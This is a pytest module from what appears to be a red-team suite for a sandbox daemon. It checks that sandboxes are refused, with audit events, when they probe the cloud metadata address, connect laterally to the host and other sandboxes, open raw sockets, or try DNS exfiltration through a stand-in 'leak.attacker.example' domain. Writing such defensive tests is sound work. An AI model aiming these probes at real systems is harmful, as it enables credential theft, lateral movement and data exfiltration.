"""Catalog section D on a networked node: the same attacks from a sandbox in
network mode `allowlist` and in mode `open`, each refused with its event.

Networking is opt-in per node (config network.enable), so this module runs
its own warrend with it on, inside a network namespace made here ("host"),
whose uplink is a veth into another one ("internet": 198.18.0.2 with a web
server on 8080, the metadata address 169.254.169.254 and another resolver
address 198.18.0.53). Nothing on the machine's own network changes and
nothing leaves these namespaces. This is a minimal copy of the e2e suite's
NetDaemon fixture (tests/e2e/test_net_plumbing.py), kept here so that the
red-team suite does not depend on the e2e files' layout.

The daemon's TCP listener is inside the namespace: the tests use its Unix
socket (the admin tenant) and filter events by sandbox.

Per mode, each attacker sandbox first proves its network works (the
allowed destination answers), so that a refusal is the policy's and not a
missing route.
"""
import os
import subprocess
import time
from pathlib import Path

import pytest

import warren
from warren._http import ConnectionConfig, SyncHTTP
from conftest import harness
from catalog import NET_COLUMNS
from redlib import current_key, parse, probe

PID = os.getpid()
HOST_NS = f"wrth{PID}"
INET_NS = f"wrti{PID}"
UPLINK = f"wrtu{PID}"
BRIDGE = f"wrtb{PID}"
TABLE = f"warren-rt-{PID}"
RANGE = "10.203.0.0/22"
GW = "10.203.0.1"
UPLINK_ADDR = "198.18.0.1"
INET = "198.18.0.2"
OTHER_RESOLVER = "198.18.0.53"
METADATA = "169.254.169.254"
BUILD = harness.BUILD


def sh(*args, check=True):
    return subprocess.run(args, check=check, capture_output=True, text=True)


class NetDaemon(harness.Daemon):
    """A warrend inside the "host" namespace, networking on."""

    def __init__(self, build, root, name):
        extra = {"network": {"enable": True, "bridge": BRIDGE, "range": RANGE,
                             "table": TABLE, "uplink": UPLINK, "pool_size": 8,
                             "teardown_per_sec": 1000,
                             "dns": {"upstreams": [INET]}},
                 # isolation, not admission: no 429 on a loaded machine
                 "admission": {"cpu_pressure_max": 1, "memory_pressure_max": 1}}
        super().__init__(build, root, name, extra=extra)

    def delete_all(self):
        c = self.client()
        r = c.get("/v1/sandboxes?state=running&limit=1000")
        for sb in r.json()["sandboxes"]:
            c.kill(sb["id"])
        c.close()

    def start(self):
        orig = subprocess.Popen

        def popen(cmd, **kw):
            if cmd and str(cmd[0]).endswith("/warrend"):
                cmd = ["nsenter", f"--net=/run/netns/{HOST_NS}"] + list(cmd)
            return orig(cmd, **kw)
        subprocess.Popen = popen
        try:
            return super().start()
        finally:
            subprocess.Popen = orig


WEB = ("import http.server, socketserver\n"
       "class H(http.server.BaseHTTPRequestHandler):\n"
       "    def do_GET(self):\n"
       "        b = self.client_address[0].encode()\n"
       "        self.send_response(200); self.send_header('Content-Length', str(len(b)))\n"
       "        self.end_headers(); self.wfile.write(b)\n"
       "    def log_message(self, *a): pass\n"
       "socketserver.TCPServer.allow_reuse_address = True\n"
       "http.server.ThreadingHTTPServer(('0.0.0.0', PORT), H).serve_forever()\n")


class NetSession:
    def __init__(self, d):
        self.d = d
        self.conn = {"socket": str(d.sock)}
        self.http = SyncHTTP(ConnectionConfig.resolve(**self.conn))
        self.victim = None
        self.victim_addr = None

    def sandbox(self, mode, uid):
        net = {"mode": mode}
        if mode == "allowlist":
            net["allow"] = [{"cidr": f"{INET}/32", "ports": "8080", "protocol": "tcp"}]
        sb = warren.Sandbox.create(image="busybox", timeout=600, network=net, **self.conn)
        # the network is really there: the allowed destination answers
        r = sb.commands.run(["wr-probe", "connect-tcp", INET, "8080"], user=uid, timeout=30)
        assert parse(r.stdout.splitlines()[0])[1] == "ok", (mode, r.stdout, r.stderr)
        return sb

    def events(self, sid, layer):
        return (self.http.json("GET", "/events", params={"sandbox": sid, "layer": layer,
                                                          "limit": 1000}) or {})["events"]

    def expect(self, sid, layer, action, subject, wait=6.0):
        """The refusal's audit event: `action` on `subject` (a substring)."""
        deadline = time.time() + wait
        while True:
            evs = self.events(sid, layer)
            for e in evs:
                if action in str(e.get("action", "")).split(",") and \
                        subject in str(e.get("subject") or "") and e.get("denied"):
                    return e
            if time.time() > deadline:
                raise AssertionError(f"no {layer} {action} event for {subject!r}; saw "
                                     f"{[(e['action'], e['subject']) for e in evs][:20]}")
            time.sleep(0.3)


@pytest.fixture(scope="module")
def net(tmp_path_factory):
    if not Path("/run/netns").exists():
        os.makedirs("/run/netns", exist_ok=True)
    made, servers, d, s = [], [], None, None
    try:
        for ns in (HOST_NS, INET_NS):
            sh("ip", "netns", "add", ns)
            made.append(ns)
            sh("ip", "-n", ns, "link", "set", "lo", "up")
        sh("ip", "link", "add", UPLINK, "netns", HOST_NS, "type", "veth",
           "peer", "name", "inet0", "netns", INET_NS)
        sh("ip", "-n", HOST_NS, "addr", "add", f"{UPLINK_ADDR}/24", "dev", UPLINK)
        sh("ip", "-n", HOST_NS, "link", "set", UPLINK, "up")
        sh("ip", "-n", HOST_NS, "route", "add", "default", "via", INET)
        sh("ip", "-n", INET_NS, "addr", "add", f"{INET}/24", "dev", "inet0")
        for a in (METADATA, OTHER_RESOLVER):
            sh("ip", "-n", INET_NS, "addr", "add", f"{a}/32", "dev", "lo")
        sh("ip", "-n", INET_NS, "link", "set", "inet0", "up")
        servers.append(subprocess.Popen(["ip", "netns", "exec", INET_NS, "/usr/bin/python3",
                                         "-c", WEB.replace("PORT", "8080")]))
        servers.append(subprocess.Popen(["ip", "netns", "exec", HOST_NS, "/usr/bin/python3",
                                         "-c", WEB.replace("PORT", "9099")]))
        time.sleep(0.5)
        d = NetDaemon(BUILD, tmp_path_factory.mktemp("rtnet"), "rtnet")
        d.start()
        s = NetSession(d)
        # the other sandbox: a listener on 7000 that the attackers try
        v = warren.Sandbox.create(image="busybox", timeout=1800, network={"mode": "open"},
                                  **s.conn)
        v.commands.run(["sh", "-c", "while true; do echo hi | nc -l -p 7000; done "
                        ">/dev/null 2>&1 &"])
        s.victim = v
        s.victim_addr = s.http.json("GET", f"/sandboxes/{v.sandbox_id}")["network"]["address"]
        time.sleep(0.2)
        r = v.commands.run(["wr-probe", "connect-tcp", s.victim_addr, "7000"])
        assert "connect-tcp ok" in r.stdout, r.stdout  # it listens
        yield s
    finally:
        problems = d.finish() if d is not None else []
        for p in servers:
            p.kill()
            p.wait()
        for ns in made:
            sh("ip", "netns", "del", ns, check=False)
        assert not problems, "\n".join(problems) + "\n" + (d.log_text() if d else "")


@pytest.fixture
def attacker(net, rt_key):
    row, col = rt_key
    mode, uid = col.split("/")
    current_key[0] = rt_key
    sb = net.sandbox(mode, int(uid[3:]))
    try:
        yield sb, mode, int(uid[3:])
    finally:
        sb.kill()


def run_probe(sb, uid, *args):
    r = sb.commands.run(["wr-probe", *[str(a) for a in args]], user=uid, timeout=60)
    assert r.exit_code == 0 and r.stdout.strip(), (args, r.stdout, r.stderr)
    return [ln for ln in r.stdout.splitlines() if ln.strip()]


@probe("d-metadata", NET_COLUMNS)
def test_d_metadata_networked(net, attacker):
    sb, mode, uid = attacker
    for port in (80, 8080):
        _, outcome, _ = parse(run_probe(sb, uid, "connect-tcp", METADATA, port)[0])
        assert outcome == "EPERM", (mode, port, outcome)
    got = {ln.split()[1]: ln.split()[-1] for ln in
           run_probe(sb, uid, "egress", METADATA, "fd00:ec2::254", 80)}
    assert got["tcp4"] == got["tcp6"] == got["udp4-sendto"] == "EPERM", got
    e = net.expect(sb.sandbox_id, "bpf-net", "connect", f"{METADATA}:8080/tcp")
    assert e["what"]["ip"] == METADATA and e["what"]["port"] == 8080, e
    net.expect(sb.sandbox_id, "bpf-net", "sendto", f"{METADATA}:80/udp")


@probe("d-lateral", NET_COLUMNS)
def test_d_lateral_networked(net, attacker):
    """The host (uplink and bridge addresses), warrend's TCP port, and
    another sandbox: each refused, each with its event."""
    sb, mode, uid = attacker
    targets = [(UPLINK_ADDR, 9099), (GW, 9099), (GW, net.d.port), (UPLINK_ADDR, net.d.port),
               (net.victim_addr, 7000)]
    got = {f"{a}:{p}": parse(run_probe(sb, uid, "connect-tcp", a, p)[0])[1] for a, p in targets}
    assert all(v == "EPERM" for v in got.values()), (mode, got)
    for addr, port in targets:
        net.expect(sb.sandbox_id, "bpf-net", "connect", f"{addr}:{port}/tcp")
    # the victim is still fine and still listening (for its own)
    r = net.victim.commands.run(["wr-probe", "connect-tcp", net.victim_addr, "7000"])
    assert "connect-tcp ok" in r.stdout, r.stdout


@probe("d-egress-bypass", NET_COLUMNS)
def test_d_raw_sockets_networked(net, attacker):
    """Raw IP and packet sockets, ICMP to a refused address."""
    sb, mode, uid = attacker
    got = {ln.split()[1]: ln.split()[-1] for ln in
           run_probe(sb, uid, "egress", METADATA, "fd00:ec2::254", 443)}
    assert got["raw-icmp"] == got["raw-ip"] == got["packet"] == "EPERM", got
    # a ping socket (if ping_group_range lets the uid have one) is refused
    # by the filter's send hook
    assert got["icmp-dgram"] in ("EPERM", "EACCES"), got
    # Raw and packet sockets need CAP_NET_RAW, which no sandbox holds: the
    # kernel refuses socket() before the filter's sock_create hook runs, so
    # the event can only come from seccomp (KNOWN_GAPS while it does not)
    net.expect(sb.sandbox_id, "seccomp", "socket", "", wait=3.0)


@probe("d-dns-exfil", NET_COLUMNS)
def test_d_dns_other_resolvers_networked(net, attacker):
    """DNS to any resolver but the sandbox's own gateway is refused, and the
    gateway's forwarder refuses names the policy does not allow."""
    sb, mode, uid = attacker
    lines = run_probe(sb, uid, "dns", "leak.attacker.example", OTHER_RESOLVER)
    got = {" ".join(ln.split()[1:3]): ln.split()[-1] for ln in lines
           if ln.startswith(("dns udp53", "dns tcp53", "dns doh443"))}
    resolver = [ln for ln in lines if ln.startswith("dns resolver ")]
    # the sandbox's own resolver is the gateway's forwarder, which answers
    assert resolver and f"dns resolver {GW} udp53 answered" in resolver[0], lines
    if mode == "allowlist":
        # the forwarder refuses the name (NXDOMAIN) and records it
        e = net.expect(sb.sandbox_id, "dns", "resolve", "leak.attacker.example")
        assert e["what"]["reason"] == "name", e
    for k, v in got.items():
        assert v == "EPERM", (mode, k, v, lines)
    net.expect(sb.sandbox_id, "bpf-net", "sendto", f"{OTHER_RESOLVER}:53/udp")
    net.expect(sb.sandbox_id, "bpf-net", "connect", f"{OTHER_RESOLVER}:53/tcp")
